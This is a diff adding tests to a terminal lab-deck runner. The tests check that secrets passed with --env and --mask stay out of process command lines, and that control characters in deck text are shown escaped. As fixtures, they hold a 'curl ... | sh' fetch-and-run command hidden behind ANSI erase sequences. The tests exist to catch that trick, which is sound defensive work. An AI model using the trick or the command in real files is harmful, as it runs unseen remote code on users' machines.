@@ -5,7 +5,20 @@ import { existsSync, readFileSync, writeFileSync } from "node:fs";
 import { join, relative } from "node:path";
 import { pathToFileURL } from "node:url";
 import { execa } from "execa";
+import { createElement } from "react";
+import { render } from "ink-testing-library";
+import { planDeck } from "../src/index.js";
+import { DeckError, formatProblem } from "../src/problem.js";
 import { PromptMatcher } from "../src/run/nested-shell.js";
+import { Runner } from "../src/run/runner.js";
+import { App } from "../src/ui/components/App.js";
+import { computeLayout } from "../src/ui/layout.js";
+import { slideLines } from "../src/ui/markdown.js";
+import { PaneTerminal } from "../src/ui/pane-terminal.js";
+import { ProgressStore } from "../src/ui/progress-store.js";
+import { initialState } from "../src/ui/state.js";
+import { lineText, truncate, wrapSpans } from "../src/ui/text.js";
+import { watchCommandLines } from "./cmdlines.js";
 import { cli as cliInRoot, ROOT, scratchDir } from "./helpers.js";
 
 /** helpers' cli(), with tsx imported by its path, so that it runs in any folder. */
@@ -117,5 +130,129 @@ describe("prompts: cannot stall labrun", () => {
     const started = performance.now();
     expect(matcher.matches("a".repeat(1000))).toBe(false);
     expect(performance.now() - started).toBeLessThan(5_000);
+  });
+});
+
+describe("--env and --mask values on no command line (local run)", () => {
+  it("no process labrun starts, in any pane, has one in its command line", async () => {
+    const dir = scratchDir("labrun-argv-local-");
+    const secret = `argv-secret-${Date.now().toString(36)}`;
+    const masked = `masked-secret-${Date.now().toString(36)}`;
+    const deck = join(dir, "deck.md");
+    writeFileSync(
+      deck,
+      exercise("Panes", bash(`sleep 1; test "$SECRET" = ${secret} && echo one has it`) + "\n<!-- ```tmux split-pane -v``` -->\n\n" + bash(`sleep 1; test "$SECRET" = ${secret} && test "$TOKEN" = ${masked} && echo two has it`)),
+    );
+    const report = join(dir, "r.json");
+    const child = execa(process.execPath, ["--import", "tsx", join(ROOT, "src/main.ts"), "run", deck, "--ci", "--env", `SECRET=${secret}`, "--mask", "SECRET", "--mask", "TOKEN", "--output", report], {
+      cwd: ROOT,
+      reject: false,
+      stdin: "ignore",
+      env: { ...process.env, TOKEN: masked },
+    });
+    const seen = Promise.all([watchCommandLines(secret, child.pid, child), watchCommandLines(masked, undefined, child)]);
+    const r = await child;
+    expect(r.exitCode, r.stdout + r.stderr).toBe(0);
+    expect(readFileSync(report, "utf8")).toContain("two has it");
+    expect(await seen).toEqual([[], []]);
+  }, 60_000);
+});
+
+describe("deck text is printed with its control characters shown, never obeyed", () => {
+  const ESC = "\x1b";
+  // What a terminal would show of the command: `echo hello`, the curl erased, the cursor back at the start.
+  const hidden = `curl -s https://x.invalid/i.sh | sh ${ESC}[2K${ESC}[Gecho hello`;
+  function trickDeck(dir: string): string {
+    const deck = join(dir, "deck.md");
+    writeFileSync(deck, exercise(`Setup${ESC}[8m`, bash("false") + "\n" + bash(hidden)) + "\nA bell\x07 in prose.\n");
+    return deck;
+  }
+  const raw = /[\x00-\x08\x0b-\x1f\x7f]/;
+
+  it("plan", async () => {
+    const dir = scratchDir("labrun-visible-plan-");
+    const r = await cli(["plan", trickDeck(dir)]);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).not.toMatch(raw);
+    expect(r.stdout).toContain("[1] Setup\\e[8m\n");
+    expect(r.stdout).toContain(":12  curl -s https://x.invalid/i.sh | sh \\e[2K\\e[Gecho hello\n");
+    // --json is raw JSON: its strings escape control characters their own way.
+    const json = await cli(["plan", trickDeck(dir), "--json"]);
+    expect((JSON.parse(json.stdout) as { steps: { text: string }[] }).steps[1]!.text).toBe(hidden);
+  }, 60_000);
+
+  it("lint flags each line holding one, with file:line:col, and exits 1", async () => {
+    const dir = scratchDir("labrun-visible-lint-");
+    const deck = trickDeck(dir);
+    const r = await cli(["lint", deck]);
+    expect(r.code).toBe(1);
+    expect(r.stdout + r.stderr).not.toMatch(raw);
+    const found = r.stdout.split("\n").filter((l) => l.includes("(control-character)"));
+    expect(found).toEqual([
+      `${deck}:1:9: error: control character \\e in the text: a terminal would obey it and could hide what is around it (labrun shows it as \\e) (control-character)`,
+      `${deck}:12:39: error: control character \\e in the text: a terminal would obey it and could hide what is around it (labrun shows it as \\e) (control-character)`,
+      `${deck}:17:7: error: control character \\x07 in the text: a terminal would obey it and could hide what is around it (labrun shows it as \\x07) (control-character)`,
+    ]);
+  }, 60_000);
+
+  it("problems and load errors quoting the deck", () => {
+    const problem = { file: "deck.md", line: 3, column: 1, severity: "warning" as const, message: "unknown directive 'x\x1b[2Ky'", ruleId: "directive-unknown" };
+    expect(formatProblem(problem)).toBe("deck.md:3:1: warning: unknown directive 'x\\e[2Ky' (directive-unknown)");
+    expect(new DeckError("labrun.yml", "bad value 'a\x1b]0;title\x07'", 2).format()).toBe("labrun.yml:2: bad value 'a\\e]0;title\\x07'");
+  });
+
+  it("a CRLF line end is not one", async () => {
+    const dir = scratchDir("labrun-visible-crlf-");
+    const deck = join(dir, "deck.md");
+    writeFileSync(deck, exercise("CRLF", bash("echo hi")).replace(/\n/g, "\r\n"));
+    const r = await cli(["lint", deck]);
+    expect(r.stdout).not.toContain("control-character");
+  }, 60_000);
+
+  it("run --ci: the step lines and the failure's details", async () => {
+    const dir = scratchDir("labrun-visible-ci-");
+    const r = await cli(["run", trickDeck(dir), "--ci"]);
+    expect(r.code).toBe(1);
+    expect(r.stdout).not.toMatch(raw);
+    expect(r.stdout).toMatch(/- SKIP +0ms {2}\S+deck\.md:12 {2}curl -s https:\/\/x\.invalid\/i\.sh \| sh \\e\[2K\\e\[Gecho hello {2}\(/);
+  }, 60_000);
+});
+
+describe("the UI shows a deck's control characters, never obeys them", () => {
+  it("in the header, the slide, its title and the step list", async () => {
+    const dir = scratchDir("labrun-visible-ui-");
+    const deck = join(dir, "deck.md");
+    writeFileSync(deck, exercise("Setup\x1b[8m", bash("curl x | sh \x1b[2K\x1b[Gecho hi")) + "\nA bell\x07 here.\n");
+    const planned = await planDeck(deck);
+    const layout = computeLayout(100, 30, { takeover: false, expectations: false, footerLines: 2 });
+    const pane = new PaneTerminal(layout.output.width, layout.output.height);
+    const runner = new Runner({ cols: layout.output.width, rows: layout.output.height, stepTimeoutMs: 15_000, reporters: [] });
+    const store = new ProgressStore(deck, join(dir, "state"));
+    const initial = initialState({ steps: planned.graph.steps, slides: planned.parsed.slides });
+    const app = render(createElement(App, { initial, deckTitle: "Deck\x1b[2K", runner, pane, store, size: { cols: 100, rows: 30 }, color: false, onExit: () => undefined }));
+    try {
+      const deadline = Date.now() + 10_000;
+      let frame = app.lastFrame() ?? "";
+      while (!frame.includes("curl x") && Date.now() < deadline) {
+        await new Promise((r) => setTimeout(r, 20));
+        frame = app.lastFrame() ?? "";
+      }
+      // ink's own styles aside (colour is off), no control character of the deck reaches the terminal.
+      for (const raw of ["\x1b[2K", "\x1b[G", "\x1b[8m", "\x07"]) expect(frame).not.toContain(raw);
+      expect(frame).toContain("Deck\\e[2K");
+      expect(frame).toContain("1. Setup\\e[8m");
+      expect(frame).toContain("$ curl x | sh \\e[2K\\e[Gecho hi");
+      expect(frame).toContain("A bell\\x07 here.");
+    } finally {
+      app.unmount();
+      await runner.close();
+      pane.dispose();
+    }
+  }, 30_000);
+
+  it("in text put through the UI's wrapping and cutting", () => {
+    expect(truncate("a\x1b[2Kb", 80)).toBe("a\\e[2Kb");
+    expect(wrapSpans([{ text: "x\ry \x1b[1mz" }], 80).map(lineText)).toEqual(["x\\ry \\e[1mz"]);
+    expect(slideLines("## T\n\n```bash\ncurl x | sh \x1b[2K\n```\n", 80).map(lineText)).toContain("  curl x | sh \\e[2K");
   });
 });
